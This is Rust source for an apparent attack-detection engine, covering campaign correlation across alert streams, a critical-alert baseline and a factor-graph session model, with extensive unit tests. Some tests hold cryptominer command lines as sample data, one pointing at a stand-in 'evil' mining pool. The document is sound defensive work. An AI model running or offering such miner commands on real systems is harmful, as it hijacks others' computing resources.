    /// Observe one alert: per-entity filter first, then campaign
    /// correlation over the scored outcome.
    pub fn observe(&mut self, alert: &Alert) -> Option<Detection> {
        let scored = self.tagger.observe_scored(alert);
        let mut detection = scored.detection;
        self.correlator
            .observe(alert, scored.attack_score, &mut detection);
        detection
    }

    pub fn tagger(&self) -> &AttackTagger {
        &self.tagger
    }

    pub fn correlator(&self) -> &CampaignCorrelator {
        &self.correlator
    }

    pub fn into_parts(self) -> (AttackTagger, CampaignCorrelator) {
        (self.tagger, self.correlator)
    }

    /// Export tagger + correlator state as one pair (service snapshots).
    pub fn export_state(&self) -> (TaggerSnapshot, CorrelatorSnapshot) {
        (self.tagger.export_state(), self.correlator.export_state())
    }

    /// [`export_state`](Self::export_state) resolving interned keys
    /// against an explicit scope (tenant pipelines).
    pub fn export_state_in(
        &self,
        scope: &simnet::intern::SymScope,
    ) -> (TaggerSnapshot, CorrelatorSnapshot) {
        (
            self.tagger.export_state_in(scope),
            self.correlator.export_state_in(scope),
        )
    }

    /// Restore tagger + correlator state from a snapshot pair.
    pub fn import_state(&mut self, tagger: &TaggerSnapshot, correlator: &CorrelatorSnapshot) {
        self.tagger.import_state(tagger);
        self.correlator.import_state(correlator);
    }

    /// [`import_state`](Self::import_state) re-interning keys into an
    /// explicit scope.
    pub fn import_state_in(
        &mut self,
        tagger: &TaggerSnapshot,
        correlator: &CorrelatorSnapshot,
        scope: &simnet::intern::SymScope,
    ) {
        self.tagger.import_state_in(tagger, scope);
        self.correlator.import_state_in(correlator, scope);
    }
}

/// Build a correlated tagger straight from a model + config (mirrors
/// [`AttackTagger::new`]).
pub fn correlated_tagger(
    model: factorgraph::chain::ChainModel,
    cfg: TaggerConfig,
) -> CorrelatedTagger {
    CorrelatedTagger::new(AttackTagger::new(model, cfg))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::train::toy_training_model;
    use alertlib::alert::Entity;
    use alertlib::taxonomy::AlertKind;
    use std::net::Ipv4Addr;

    fn victim() -> Ipv4Addr {
        "10.9.8.7".parse().unwrap()
    }

    fn hop_alert(t: u64, kind: AlertKind, ip: &str) -> Alert {
        let src: Ipv4Addr = ip.parse().unwrap();
        Alert::new(
            simnet::time::SimTime::from_secs(t),
            kind,
            Entity::Address(src),
        )
        .with_src(src)
        .with_dst(victim())
    }

    fn test_policy() -> CorrelationPolicy {
        CorrelationPolicy {
            join_min_score: 0.05,
            ..CorrelationPolicy::default()
        }
    }

    /// The tentpole behaviour: hop A walks the kill chain and is detected;
    /// hop B — same victim — crosses on its *first* alert via campaign
    /// fusion, where an uncorrelated tagger stays silent.
    #[test]
    fn second_hop_promoted_on_first_alert() {
        let chain = [
            (0, AlertKind::PortScan),
            (60, AlertKind::DownloadSensitive),
            (120, AlertKind::CompileKernelModule),
            (180, AlertKind::LogWipe),
        ];
        let mut plain = AttackTagger::new(toy_training_model(), TaggerConfig::default());
        let mut fused = CorrelatedTagger::with_policy(
            AttackTagger::new(toy_training_model(), TaggerConfig::default()),
            test_policy(),
        );
        for (t, k) in chain {
            let a = hop_alert(t, k, "198.18.0.1");
            plain.observe(&a);
            fused.observe(&a);
        }
        // Hop B: one suspicious (but alone sub-threshold) alert against
        // the same victim.
        let b = hop_alert(240, AlertKind::LogWipe, "198.18.0.2");
        assert!(
            plain.observe(&b).is_none(),
            "uncorrelated tagger must not fire on one alert (else the test is vacuous)"
        );
        let d = fused.observe(&b).expect("campaign fusion promotes hop B");
        assert_eq!(d.stage, Stage::Lateral);
        assert_eq!(d.alert_index, 0, "promoted on the first alert");
        assert!(d.score >= 0.8);
        assert_eq!(fused.correlator().promotions(), 1);
        assert_eq!(fused.correlator().campaign_count(), 1);
        let summary = &fused.correlator().summaries()[0];
        assert_eq!(summary.members.len(), 2);
        assert_eq!(summary.promotions, 1);
        assert!(
            summary.links.iter().any(|l| l.kind == LinkKind::Victim),
            "shared-victim provenance recorded"
        );
    }

    /// Sequence stitching recovers splits posterior fusion cannot: both
    /// hops stay below the anchor floor (0.50) and the fused posterior
    /// peaks near 0.67, but the *concatenated* step sequence
    /// PortScan→LogWipe→LogWipe scores 0.92 under the chain model — so
    /// hop B is promoted on its first alert anyway.
    #[test]
    fn weak_fragments_recovered_by_sequence_stitching() {
        let fragment_a = [(0, AlertKind::PortScan), (60, AlertKind::LogWipe)];
        let hop_b = hop_alert(180, AlertKind::LogWipe, "198.18.0.2");

        // Neither fragment alone moves the plain tagger.
        let mut plain = AttackTagger::new(toy_training_model(), TaggerConfig::default());
        for (t, k) in fragment_a {
            assert!(plain.observe(&hop_alert(t, k, "198.18.0.1")).is_none());
        }
        assert!(plain.observe(&hop_b).is_none());

        // Default policy — the trace floor (not an anchor) is what lets
        // hop A's weak fragment be linked back to.
        let mut fused = CorrelatedTagger::with_policy(
            AttackTagger::new(toy_training_model(), TaggerConfig::default()),
            CorrelationPolicy::default(),
        );
        for (t, k) in fragment_a {
            assert!(fused.observe(&hop_alert(t, k, "198.18.0.1")).is_none());
        }
        let d = fused
            .observe(&hop_b)
            .expect("stitched sequence promotes hop B");
        assert_eq!(d.stage, Stage::Lateral);
        assert_eq!(d.alert_index, 0, "promoted on hop B's first alert");
        assert!(d.score >= 0.8, "stitched score {:.3}", d.score);
        assert_eq!(fused.correlator().promotions(), 1);
    }

    /// Without an attached chain model the same weak-fragment split is
    /// *not* recovered — stitching degrades to posterior fusion, which
    /// cannot reach the threshold here.
    #[test]
    fn stitching_requires_a_model() {
        let mut c = CampaignCorrelator::new(CorrelationPolicy::default());
        let mut none = None;
        c.observe(
            &hop_alert(0, AlertKind::PortScan, "198.18.0.1"),
            0.0001,
            &mut none,
        );
        c.observe(
            &hop_alert(60, AlertKind::LogWipe, "198.18.0.1"),
            0.4957,
            &mut none,
        );
        let mut det = None;
        c.observe(
            &hop_alert(180, AlertKind::LogWipe, "198.18.0.2"),
            0.4361,
            &mut det,
        );
        assert_eq!(c.campaign_count(), 1, "the link still forms");
        assert!(det.is_none(), "fusion alone stays below threshold");
        assert_eq!(c.promotions(), 0);
    }

    /// Once promoted, the entity's own later tagger detection is
    /// suppressed (single surfaced detection per entity) and counted as a
    /// confirmation.
    #[test]
    fn promotion_suppresses_later_tagger_detection() {
        let mut fused = CorrelatedTagger::with_policy(
            AttackTagger::new(toy_training_model(), TaggerConfig::default()),
            test_policy(),
        );
        for (t, k) in [
            (0, AlertKind::PortScan),
            (60, AlertKind::DownloadSensitive),
            (120, AlertKind::CompileKernelModule),
            (180, AlertKind::LogWipe),
        ] {
            fused.observe(&hop_alert(t, k, "198.18.0.1"));
        }
        let mut raised = 0;
        for (t, k) in [
            (240, AlertKind::LogWipe),
            (300, AlertKind::DownloadSensitive),
            (360, AlertKind::CompileKernelModule),
            (420, AlertKind::DataExfiltration),
        ] {
            if fused.observe(&hop_alert(t, k, "198.18.0.2")).is_some() {
                raised += 1;
            }
        }
        assert_eq!(raised, 1, "one surfaced detection per entity");
        assert_eq!(fused.correlator().tagger_confirmations(), 1);
    }

    /// Entities with no shared join key never correlate.
    #[test]
    fn unrelated_victims_do_not_correlate() {
        let mut fused = CorrelatedTagger::with_policy(
            AttackTagger::new(toy_training_model(), TaggerConfig::default()),
            test_policy(),
        );
        for (i, ip) in ["198.18.0.1", "198.18.0.2"].iter().enumerate() {
            for (t, k) in [
                (0, AlertKind::DownloadSensitive),
                (60, AlertKind::CompileKernelModule),
            ] {
                let src: Ipv4Addr = ip.parse().unwrap();
                let dst: Ipv4Addr = format!("10.0.{i}.1").parse().unwrap();
                let a = Alert::new(
                    simnet::time::SimTime::from_secs(t + i as u64),
                    k,
                    Entity::Address(src),
                )
                .with_src(src)
                .with_dst(dst);
                fused.observe(&a);
            }
        }
        assert_eq!(fused.correlator().campaign_count(), 0);
        assert_eq!(fused.correlator().promotions(), 0);
    }

    /// Cold (benign-scored) traffic brushing the shared victim neither
    /// anchors nor joins a campaign. Below the trace floor it is fully
    /// invisible; at trace level it occupies ring slots but still cannot
    /// form a campaign on its own.
    #[test]
    fn benign_traffic_stays_out_of_campaigns() {
        let mut c = CampaignCorrelator::new(test_policy());
        let mut none = None;
        // Masses below the trace floor: no keys, no campaigns.
        for (t, ip) in [(0, "192.0.2.1"), (10, "192.0.2.2")] {
            c.observe(&hop_alert(t, AlertKind::LoginSuccess, ip), 0.001, &mut none);
        }
        assert_eq!(c.campaign_count(), 0);
        assert_eq!(c.tracked_join_keys(), 0, "sub-trace entities leave nothing");

        // Trace-level masses occupy rings (linkable back to) but two
        // trace-level entities never join each other into a campaign.
        for (t, ip) in [(20, "192.0.2.3"), (30, "192.0.2.4")] {
            c.observe(&hop_alert(t, AlertKind::LoginSuccess, ip), 0.02, &mut none);
        }
        assert!(
            c.tracked_join_keys() > 0,
            "trace-level entities occupy rings"
        );
        assert_eq!(c.campaign_count(), 0, "traces alone form no campaign");
    }

    /// Shared source endpoint and shared exec palette also form links.
    #[test]
    fn source_and_palette_links_form() {
        use simnet::intern::Sym;
        let p = CorrelationPolicy {
            anchor_min_score: 0.3,
            join_min_score: 0.05,
            weak_join_min_score: 0.3,
            ..CorrelationPolicy::default()
        };
        // Shared C2 source: two *user* entities from one staging host.
        let mut c = CampaignCorrelator::new(p.clone());
        let c2: Ipv4Addr = "203.0.113.9".parse().unwrap();
        let mk = |t: u64, user: &str| {
            Alert::new(
                simnet::time::SimTime::from_secs(t),
                AlertKind::DownloadSensitive,
                Entity::User(user.into()),
            )
            .with_src(c2)
        };
        let mut none = None;
        c.observe(&mk(0, "mallory"), 0.6, &mut none);
        c.observe(&mk(30, "trudy"), 0.4, &mut none);
        assert_eq!(c.campaign_count(), 1);
        assert_eq!(c.link_pairs()[0].2, LinkKind::Source);

        // Shared cmdline palette on two different hosts.
        let mut c = CampaignCorrelator::new(p);
        let cmd = Sym::new("./xmrig --donate-level 0");
        let mk = |t: u64, user: &str| {
            Alert::new(
                simnet::time::SimTime::from_secs(t),
                AlertKind::SuspiciousProcessName,
                Entity::User(user.into()),
            )
            .with_message(MessageSpec::Exec {
                hostname: Sym::new("node-17"),
                cmdline: cmd,
            })
        };
        let mut none = None;
        c.observe(&mk(0, "mallory"), 0.6, &mut none);
        c.observe(&mk(30, "trudy"), 0.4, &mut none);
        assert_eq!(c.campaign_count(), 1);
        assert_eq!(c.link_pairs()[0].2, LinkKind::Palette);

        // The same palette pair under the *default* policy does not link:
        // low-specificity keys demand anchor-level (0.5) mass, so a
        // 0.4-mass entity sharing a cmdline with a hot one stays out.
        let mut c = CampaignCorrelator::new(CorrelationPolicy::default());
        c.observe(&mk(0, "mallory"), 0.6, &mut none);
        c.observe(&mk(30, "trudy"), 0.4, &mut none);
        assert_eq!(c.campaign_count(), 0, "weak keys gated at default floor");
    }

    /// Links outside the adjacency window do not form.
    #[test]
    fn adjacency_window_bounds_links() {
        let p = CorrelationPolicy {
            adjacency_window: SimDuration::from_hours(1),
            idle_timeout: None,
            join_min_score: 0.05,
            ..CorrelationPolicy::default()
        };
        let mut c = CampaignCorrelator::new(p);
        let mut none = None;
        c.observe(
            &hop_alert(0, AlertKind::DownloadSensitive, "198.18.0.1"),
            0.9,
            &mut none,
        );
        // Two hours later: same victim, outside the window.
        c.observe(
            &hop_alert(7_200, AlertKind::DownloadSensitive, "198.18.0.2"),
            0.9,
            &mut none,
        );
        assert_eq!(c.campaign_count(), 0);
    }

    /// Transitive links merge campaigns into one.
    #[test]
    fn chained_links_merge_campaigns() {
        let p = CorrelationPolicy {
            anchor_min_score: 0.3,
            join_min_score: 0.05,
            ..CorrelationPolicy::default()
        };
        let mut c = CampaignCorrelator::new(p);
        let mut none = None;
        let mk = |t: u64, ip: &str, dst: &str| {
            let src: Ipv4Addr = ip.parse().unwrap();
            Alert::new(
                simnet::time::SimTime::from_secs(t),
                AlertKind::DownloadSensitive,
                Entity::Address(src),
            )
            .with_src(src)
            .with_dst(dst.parse().unwrap())
        };
        // A—B share victim 1; C—D share victim 2.
        c.observe(&mk(0, "198.18.0.1", "10.0.0.1"), 0.9, &mut none);
        c.observe(&mk(10, "198.18.0.2", "10.0.0.1"), 0.9, &mut none);
        c.observe(&mk(20, "198.18.0.3", "10.0.0.2"), 0.9, &mut none);
        c.observe(&mk(30, "198.18.0.4", "10.0.0.2"), 0.9, &mut none);
        assert_eq!(c.campaign_count(), 2);
        // B hits victim 2: the two campaigns become one.
        c.observe(&mk(40, "198.18.0.2", "10.0.0.2"), 0.9, &mut none);
        assert_eq!(c.campaign_count(), 1);
        assert_eq!(c.summaries()[0].members.len(), 4);
    }

    /// Link formation is order-insensitive within a batch: any permutation
    /// of the same alerts yields the same campaign partition and the same
    /// link endpoint set.
    #[test]
    fn link_formation_is_order_insensitive() {
        let alerts: Vec<Alert> = vec![
            hop_alert(0, AlertKind::DownloadSensitive, "198.18.0.1"),
            hop_alert(30, AlertKind::CompileKernelModule, "198.18.0.2"),
            hop_alert(60, AlertKind::LogWipe, "198.18.0.3"),
        ];
        let run = |order: &[usize]| {
            let mut c = CampaignCorrelator::new(CorrelationPolicy {
                anchor_min_score: 0.3,
                join_min_score: 0.05,
                ..CorrelationPolicy::default()
            });
            let mut none = None;
            for &i in order {
                c.observe(&alerts[i], 0.9, &mut none);
            }
            (c.partition(), c.link_pairs())
        };
        let reference = run(&[0, 1, 2]);
        for order in [[0, 2, 1], [1, 0, 2], [1, 2, 0], [2, 0, 1], [2, 1, 0]] {
            assert_eq!(run(&order), reference, "order {order:?}");
        }
    }

    /// Satellite 6: an adversarial many-entity alert storm cannot grow
    /// state unboundedly — entities, join keys, campaigns, and link
    /// provenance all stay within their budgets.
    #[test]
    fn alert_storm_cannot_grow_state_unboundedly() {
        let p = CorrelationPolicy {
            anchor_min_score: 0.1,
            join_min_score: 0.05,
            max_entities: 128,
            max_join_keys: 64,
            max_links_per_campaign: 16,
            idle_timeout: Some(SimDuration::from_hours(1)),
            ..CorrelationPolicy::default()
        };
        let mut c = CampaignCorrelator::new(p);
        let mut none = None;
        for i in 0..10_000u32 {
            // Every alert: a fresh hot entity, a fresh victim, plus one
            // shared victim so campaigns and links keep forming.
            let src = Ipv4Addr::from(0xC612_0000 | i);
            let dst = Ipv4Addr::from(0x0A00_0000 | (i % 512));
            let a = Alert::new(
                simnet::time::SimTime::from_secs(u64::from(i) * 7),
                AlertKind::DownloadSensitive,
                Entity::Address(src),
            )
            .with_src(src)
            .with_dst(dst);
            c.observe(&a, 0.95, &mut none);
            none = None; // promotions may fire; discard
        }
        assert!(
            c.tracked_entities() <= 128,
            "entity budget held: {}",
            c.tracked_entities()
        );
        assert!(
            c.tracked_join_keys() <= 64,
            "join-key budget held: {}",
            c.tracked_join_keys()
        );
        assert!(
            c.campaign_count() <= c.tracked_entities(),
            "campaigns bounded by entities"
        );
        for s in c.summaries() {
            assert!(s.links.len() <= 16, "per-campaign link budget held");
        }
    }

    /// Evicting a member keeps the campaign consistent and dissolves
    /// campaigns that fall below two members.
    #[test]
    fn eviction_keeps_campaigns_consistent() {
        let p = CorrelationPolicy {
            anchor_min_score: 0.1,
            join_min_score: 0.05,
            max_entities: 4,
            idle_timeout: Some(SimDuration::from_mins(10)),
            ..CorrelationPolicy::default()
        };
        let mut c = CampaignCorrelator::new(p);
        let mut none = None;
        c.observe(
            &hop_alert(0, AlertKind::DownloadSensitive, "198.18.0.1"),
            0.9,
            &mut none,
        );
        c.observe(
            &hop_alert(10, AlertKind::DownloadSensitive, "198.18.0.2"),
            0.9,
            &mut none,
        );
        assert_eq!(c.campaign_count(), 1);
        // A burst of fresh entities an hour later evicts the idle pair.
        for i in 3..10 {
            let a = hop_alert(
                3_600 + i,
                AlertKind::DownloadSensitive,
                &format!("198.18.1.{i}"),
            );
            c.observe(&a, 0.9, &mut none);
            none = None;
        }
        assert!(c.tracked_entities() <= 4);
        for s in c.summaries() {
            assert!(s.members.len() >= 2, "no singleton campaigns survive");
        }
    }

    /// The default `TaggerConfig` has correlation off — pre-correlation
    /// behaviour is preserved byte for byte — and the default policy
    /// mirrors the `TemporalPolicy` decay/timeout semantics.
    #[test]
    fn correlation_defaults_off_and_mirrors_temporal_policy() {
        assert!(TaggerConfig::default().correlation.is_none());
        let p = CorrelationPolicy::default();
        let t = TemporalPolicy::default();
        assert_eq!(p.decay_half_life, t.decay_half_life);
        assert_eq!(p.idle_timeout, t.session_timeout);
        let cfg = TaggerConfig {
            correlation: Some(p.clone()),
            ..TaggerConfig::default()
        };
        assert_eq!(cfg.correlation, Some(p));
    }

    /// Satellite (PR 8): an evicted entity that had already surfaced a
    /// detection keeps its latch outside the graph — re-arrival into a
    /// hot campaign must not promote a second detection, and a later
    /// tagger detection is still suppressed as a confirmation, exactly
    /// as the unbounded correlator would count it.
    #[test]
    fn evicted_promoted_entity_rearrival_does_not_double_count() {
        let p = CorrelationPolicy {
            join_min_score: 0.05,
            max_entities: 4,
            idle_timeout: Some(SimDuration::from_mins(10)),
            ..CorrelationPolicy::default()
        };
        let mut c = CampaignCorrelator::new(p);
        // Anchor A (tagger-detected) on victim V, then B joins with a
        // suggestive alert and is promoted through posterior fusion.
        let tagger_det = |t: u64| {
            Some(Detection {
                ts: simnet::time::SimTime::from_secs(t),
                alert_index: 0,
                trigger: AlertKind::DownloadSensitive,
                score: 0.9,
                stage: Stage::Lateral,
            })
        };
        let mut det = tagger_det(0);
        c.observe(
            &hop_alert(0, AlertKind::DownloadSensitive, "198.18.0.1"),
            0.9,
            &mut det,
        );
        let mut det = None;
        c.observe(
            &hop_alert(60, AlertKind::LogWipe, "198.18.0.2"),
            0.3,
            &mut det,
        );
        assert!(det.is_some(), "B promoted through campaign fusion");
        assert_eq!(c.promotions(), 1);

        // Keep A hot, leave B idle past the timeout, then let fresh
        // entities push the map over budget: the sweep evicts B.
        let mut det = tagger_det(700);
        c.observe(
            &hop_alert(700, AlertKind::DownloadSensitive, "198.18.0.1"),
            0.9,
            &mut det,
        );
        assert!(det.is_none(), "A's repeat detection is a confirmation");
        for i in 0..3u64 {
            let mut d = None;
            c.observe(
                &hop_alert(710 + i, AlertKind::LoginSuccess, &format!("198.18.9.{i}")),
                0.0,
                &mut d,
            );
        }
        assert!(c.entities_evicted() >= 1, "budget pressure evicted B");
        assert_eq!(
            c.promoted_latched_entities(),
            1,
            "B's surfaced-detection latch survives eviction"
        );
        // Refresh A once more so B's re-arrival (a fresh insert at full
        // budget) evicts a storm entity, not the anchor.
        let mut none = None;
        c.observe(
            &hop_alert(713, AlertKind::DownloadSensitive, "198.18.0.1"),
            0.9,
            &mut none,
        );

        // B re-arrives into the still-hot campaign neighbourhood with the
        // same suggestive score: without the latch this would promote a
        // second detection for the same entity.
        let mut det = None;
        c.observe(
            &hop_alert(720, AlertKind::LogWipe, "198.18.0.2"),
            0.3,
            &mut det,
        );
        assert!(det.is_none(), "re-arrival must not re-promote");
        assert_eq!(c.promotions(), 1, "promotion counter does not double-count");
        assert_eq!(
            c.promoted_latched_entities(),
            0,
            "latch consumed on re-arrival"
        );

        // A later tagger detection on B is suppressed as a confirmation —
        // the unbounded correlator's accounting, reproduced.
        let mut det = Some(Detection {
            ts: simnet::time::SimTime::from_secs(780),
            alert_index: 1,
            trigger: AlertKind::DataExfiltration,
            score: 0.95,
            stage: Stage::Lateral,
        });
        c.observe(
            &hop_alert(780, AlertKind::DataExfiltration, "198.18.0.2"),
            0.95,
            &mut det,
        );
        assert!(
            det.is_none(),
            "tagger detection suppressed, not surfaced twice"
        );
        assert_eq!(c.tagger_confirmations(), 2, "A's repeat + B's post-restore");
    }

    /// Tentpole (PR 8): snapshot → restore → replay tail is byte-identical
    /// to the uninterrupted run — detections, campaign summaries, and the
    /// re-exported state all match, including campaigns, join-key rings
    /// (palette keys round-trip through their resolved strings), merged
    /// support, and eviction latches.
    #[test]
    fn state_snapshot_round_trips() {
        use simnet::intern::Sym;
        let policy = CorrelationPolicy {
            anchor_min_score: 0.3,
            join_min_score: 0.05,
            weak_join_min_score: 0.3,
            max_entities: 6,
            idle_timeout: Some(SimDuration::from_mins(10)),
            ..CorrelationPolicy::default()
        };
        let stages = TaggerConfig::default().decision_stages;
        let fresh =
            || CampaignCorrelator::with_model(policy.clone(), toy_training_model(), stages.clone());
        let cmd = Sym::new("./miner --pool stratum+tcp://evil:3333");
        let exec = |t: u64, user: &str| {
            Alert::new(
                simnet::time::SimTime::from_secs(t),
                AlertKind::SuspiciousProcessName,
                Entity::User(user.into()),
            )
            .with_message(MessageSpec::Exec {
                hostname: Sym::new("node-42"),
                cmdline: cmd,
            })
        };
        // A mixed stream: an address campaign on a shared victim, a user
        // palette campaign, an eviction storm (latch + counter state),
        // then a promoted re-arrival and fresh links in the tail.
        let stream: Vec<(Alert, f64)> = vec![
            (hop_alert(0, AlertKind::PortScan, "198.18.0.1"), 0.2),
            (
                hop_alert(60, AlertKind::DownloadSensitive, "198.18.0.1"),
                0.9,
            ),
            (hop_alert(120, AlertKind::LogWipe, "198.18.0.2"), 0.3), // promoted
            (exec(180, "mallory"), 0.6),
            (exec(240, "trudy"), 0.4), // palette link
            (
                hop_alert(900, AlertKind::DownloadSensitive, "198.18.0.1"),
                0.9,
            ),
            (hop_alert(910, AlertKind::LoginSuccess, "198.18.9.1"), 0.0),
            (hop_alert(911, AlertKind::LoginSuccess, "198.18.9.2"), 0.0),
            (hop_alert(912, AlertKind::LoginSuccess, "198.18.9.3"), 0.0),
            // -------- snapshot taken here (index 10) --------
            (hop_alert(1000, AlertKind::LogWipe, "198.18.0.2"), 0.3), // latched re-arrival
            (
                hop_alert(1060, AlertKind::DownloadSensitive, "198.18.0.3"),
                0.7,
            ),
            (exec(1120, "mallory"), 0.7),
            (hop_alert(1180, AlertKind::LogWipe, "198.18.0.4"), 0.25),
        ];
        let drive =
            |c: &mut CampaignCorrelator, alerts: &[(Alert, f64)]| -> Vec<Option<Detection>> {
                alerts
                    .iter()
                    .map(|(a, s)| {
                        let mut d = None;
                        c.observe(a, *s, &mut d);
                        d
                    })
                    .collect()
            };

        let mut uninterrupted = fresh();
        let reference = drive(&mut uninterrupted, &stream);

        let split = 10;
        let mut head_run = fresh();
        let mut detections = drive(&mut head_run, &stream[..split]);
        let snap = head_run.export_state();
        let mut restored = fresh();
        restored.import_state(&snap);
        assert_eq!(
            restored.export_state(),
            snap,
            "import → export is the identity on snapshots"
        );
        detections.extend(drive(&mut restored, &stream[split..]));

        assert_eq!(detections, reference, "stitched detections drift");
        assert_eq!(restored.summaries(), uninterrupted.summaries());
        assert_eq!(restored.partition(), uninterrupted.partition());
        assert_eq!(restored.promotions(), uninterrupted.promotions());
        assert_eq!(
            restored.tagger_confirmations(),
            uninterrupted.tagger_confirmations()
        );
        assert_eq!(
            restored.entities_evicted(),
            uninterrupted.entities_evicted()
        );
        assert_eq!(
            restored.export_state(),
            uninterrupted.export_state(),
            "full state drift after tail replay"
        );
    }
}
