//! Critical-alert-only baseline.
//!
//! Insight 4: critical alerts reliably indicate successful attacks but
//! "cannot be used to preempt attacks because their occurrences indicate
//! that the system integrity has already been compromised". This detector
//! fires on the first critical alert — by construction it detects but
//! never preempts, which is exactly the contrast the evaluation needs.

use alertlib::alert::Alert;

use crate::attack_tagger::Detection;
use crate::stage::Stage;

/// Fires on the first critical alert in a session.
#[derive(Debug, Clone, Copy, Default)]
pub struct CriticalOnlyDetector;

impl CriticalOnlyDetector {
    pub fn new() -> Self {
        CriticalOnlyDetector
    }

    /// Scan a session for the first critical alert.
    pub fn scan(&self, alerts: &[Alert]) -> Option<Detection> {
        alerts
            .iter()
            .enumerate()
            .find(|(_, a)| a.is_critical())
            .map(|(i, a)| Detection {
                ts: a.ts,
                alert_index: i,
                trigger: a.kind,
                score: 1.0,
                stage: Stage::Damage,
            })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use alertlib::alert::Entity;
    use alertlib::taxonomy::AlertKind;
    use simnet::time::SimTime;

    fn alert(t: u64, kind: AlertKind) -> Alert {
        Alert::new(SimTime::from_secs(t), kind, Entity::User("e".into()))
    }

    #[test]
    fn fires_on_first_critical() {
        use AlertKind::*;
        let det = CriticalOnlyDetector::new();
        let session = vec![
            alert(0, DownloadSensitive),
            alert(10, PrivilegeEscalation),
            alert(20, DataExfiltration),
        ];
        let d = det.scan(&session).unwrap();
        assert_eq!(d.alert_index, 1);
        assert_eq!(d.trigger, PrivilegeEscalation);
        assert_eq!(d.stage, Stage::Damage);
    }

    #[test]
    fn silent_without_criticals() {
        use AlertKind::*;
        let det = CriticalOnlyDetector::new();
        assert!(det
            .scan(&[alert(0, DownloadSensitive), alert(1, LogWipe)])
            .is_none());
    }
}
