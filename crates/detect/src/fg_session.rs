//! Full factor-graph session model (skip-chain extension).
//!
//! The chain model of [`crate::attack_tagger`] links consecutive events
//! only. The factor-graph formulation of ref [6] is richer: repeated
//! observations of the *same alert kind* within a session are linked by
//! additional "skip" factors, encoding that recurrences of an indicative
//! alert refer to the same underlying attack state even when far apart in
//! the stream. The resulting graph is loopy; inference uses damped
//! sum-product BP, and falls back to exact behaviour on skip-free
//! sessions (where the graph is the chain).
//!
//! This module is the offline/forensic analysis counterpart to the online
//! chain filter: given a full session, it produces smoothed per-event
//! stage posteriors with the skip evidence folded in.
//!
//! Batch workloads should hold a [`SessionEngine`]: it keeps the session
//! graph in a [`ChainGraphBuffer`] and the BP state in a reused
//! [`BpWorkspace`], so consecutive sessions with the same shape (same
//! length, same skip links — the common case when rescoring one entity's
//! session as it grows, or sweeping model variants over a fixed corpus)
//! rewrite factor tables in place and run inference with zero
//! steady-state allocation.

use alertlib::alert::Alert;
use factorgraph::chain::{ChainGraphBuffer, ChainModel};
use factorgraph::factor::Factor;
use factorgraph::graph::FactorGraph;
use factorgraph::sumproduct::{run_in, BpOptions, BpSchedule, BpStats, BpWorkspace};
use factorgraph::VarId;
use serde::{Deserialize, Serialize};

use crate::stage::Stage;

/// Configuration of the session factor graph.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct SessionGraphConfig {
    /// Strength of the skip factor: probability mass placed on the two
    /// linked events being in the same stage (vs. uniform elsewhere).
    /// 0.5 = no information; 1.0 = hard equality.
    pub skip_agreement: f64,
    /// Only link recurrences of kinds at least this severe (linking scan
    /// noise would shackle the whole session together).
    pub min_skip_severity: alertlib::taxonomy::Severity,
    /// Cap on skip links per kind (first occurrence links to at most this
    /// many later recurrences).
    pub max_skips_per_kind: usize,
    /// BP options (damping is required on loopy sessions).
    pub max_iters: usize,
    pub damping: f64,
    /// Message-passing schedule for the loopy solve.
    pub schedule: BpSchedule,
    /// Fold the model's quantized inter-alert-gap observations into each
    /// step's evidence factor (no-op when the model carries no
    /// [`factorgraph::timing::GapModel`]).
    #[serde(default = "default_gap_observations")]
    pub gap_observations: bool,
}

// Referenced by the `serde(default = ...)` attribute; the offline serde
// shim's derive does not expand it, hence the explicit allow.
#[allow(dead_code)]
fn default_gap_observations() -> bool {
    true
}

impl Default for SessionGraphConfig {
    fn default() -> Self {
        SessionGraphConfig {
            skip_agreement: 0.8,
            min_skip_severity: alertlib::taxonomy::Severity::Significant,
            max_skips_per_kind: 3,
            max_iters: 200,
            damping: 0.3,
            schedule: BpSchedule::Flood,
            gap_observations: true,
        }
    }
}

impl SessionGraphConfig {
    fn bp_options(&self) -> BpOptions {
        BpOptions {
            max_iters: self.max_iters,
            damping: self.damping,
            tolerance: 1e-8,
            schedule: self.schedule,
        }
    }
}

/// Result of session-graph inference.
#[derive(Debug, Clone)]
pub struct SessionPosteriors {
    /// Per-event stage marginals.
    pub marginals: Vec<Vec<f64>>,
    /// Number of skip factors added.
    pub skip_factors: usize,
    /// Whether BP converged.
    pub converged: bool,
}

impl SessionPosteriors {
    /// The most probable stage at event `t`.
    pub fn stage_at(&self, t: usize) -> Stage {
        let m = &self.marginals[t];
        let mut best = 0;
        for s in 1..m.len() {
            if m[s] > m[best] {
                best = s;
            }
        }
        Stage::from_index(best)
    }

    /// Posterior mass on attack stages (≥ Foothold) at event `t`.
    pub fn attack_mass(&self, t: usize) -> f64 {
        self.marginals[t][Stage::Foothold.index()..].iter().sum()
    }
}

/// Collect the skip links `(anchor, recurrence)` a session induces under
/// `cfg`, appending to `out` (which is cleared first).
fn collect_skip_links(alerts: &[Alert], cfg: &SessionGraphConfig, out: &mut Vec<(u32, u32)>) {
    out.clear();
    // Few distinct indicative kinds per session: linear scan beats a map
    // and allocates nothing. `seen` tracks (kind, anchor, links_used);
    // the slot count must cover every distinct kind a session can
    // contain, i.e. the whole taxonomy.
    const SEEN_SLOTS: usize = 128;
    const {
        assert!(
            alertlib::taxonomy::AlertKind::COUNT <= SEEN_SLOTS,
            "taxonomy outgrew the skip-link scratch table"
        )
    };
    let mut seen: [(usize, u32, usize); SEEN_SLOTS] = [(usize::MAX, 0, 0); SEEN_SLOTS];
    let mut seen_len = 0usize;
    for (t, a) in alerts.iter().enumerate() {
        if a.severity() < cfg.min_skip_severity {
            continue;
        }
        let kind = a.kind.index();
        match seen[..seen_len].iter_mut().find(|e| e.0 == kind) {
            None => {
                if seen_len < seen.len() {
                    seen[seen_len] = (kind, t as u32, 0);
                    seen_len += 1;
                }
            }
            Some(entry) if entry.2 < cfg.max_skips_per_kind => {
                out.push((entry.1, t as u32));
                entry.2 += 1;
            }
            Some(_) => {}
        }
    }
}

/// Quantize a session's inter-alert gaps with the model's bins, appending
/// to `out` (cleared first only by callers — `out` may be a reused
/// scratch). The first alert has no gap ([`factorgraph::timing::GAP_NONE`]);
/// leaves `out` empty when the model carries no gap tables, which
/// [`ChainModel::fill_factor_graph_timed`] treats as an order-only fill.
/// The single definition of the session gap semantics — the online tagger
/// anchors gaps per *entity* instead, but uses the same quantizer.
fn collect_gap_bins(model: &ChainModel, alerts: &[Alert], out: &mut Vec<usize>) {
